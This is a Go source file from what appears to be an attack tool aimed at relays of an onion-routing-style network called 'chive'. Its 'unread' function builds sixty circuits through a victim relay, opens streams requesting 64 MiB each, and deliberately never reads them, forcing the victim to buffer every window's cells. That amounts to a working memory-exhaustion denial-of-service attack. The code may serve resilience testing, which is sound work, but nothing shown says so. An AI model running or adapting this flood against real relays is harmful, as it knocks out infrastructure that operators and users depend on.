package flood

import (
	"context"
	"encoding/binary"
	"sync"

	"github.com/chivenet/chive/internal/cell"
	"github.com/chivenet/chive/internal/channel"
	"github.com/chivenet/chive/internal/circuit"
	"github.com/chivenet/chive/internal/fault"
)

const (
	// unreadCircuits is how many circuits download on one channel: each fills
	// a window of 1,000 cells.
	unreadCircuits = 60
	// unreadBytes is what each asks for: more than any window.
	unreadBytes = 64 << 20
)

// unread makes an exit after the victim send on many circuits of a channel, and
// then does not read: the victim must hold the cells of all windows.
func unread(ctx context.Context, a *attack) error {
	return a.channels(ctx, func(ctx context.Context, ch *channel.Channel, conn *gated) error {
		var mu sync.Mutex
		var built []*circuit.Circuit
		err := a.many(ctx, ch, unreadCircuits, func(ctx context.Context) error {
			c, err := build(ctx, a, ch, nil, &a.Victim, &a.Exit)
			if err == nil {
				mu.Lock()
				built = append(built, c)
				mu.Unlock()
			}
			return err
		})
		if len(built) == 0 {
			return err
		}
		conn.Shut()
		for _, c := range built {
			// Two streams fill the circuit's window; each fills its own window.
			for id := uint16(1); id <= 2; id++ {
				if !a.rate.take(ctx, 1) {
					return context.Cause(ctx)
				}
				if err := a.download(c.Last(), id); err != nil {
					return err
				}
				a.sent.Add(1)
			}
		}
		return stay(ctx, ch)
	})
}

// download opens a stream under an identifier of its own choice and asks for
// bytes that it will not read.
func (a *attack) download(h *circuit.Hop, id uint16) error {
	begin, err := cell.NewBegin(a.Source.Addr().String(), a.Source.Port(), 0)
	if err != nil {
		return fault.Wrap(fault.Local, err)
	}
	if err := h.Send(cell.RelayBegin, id, begin.Append(nil)); err != nil {
		return err
	}
	return h.Send(cell.RelayData, id, binary.BigEndian.AppendUint64(nil, unreadBytes))
}
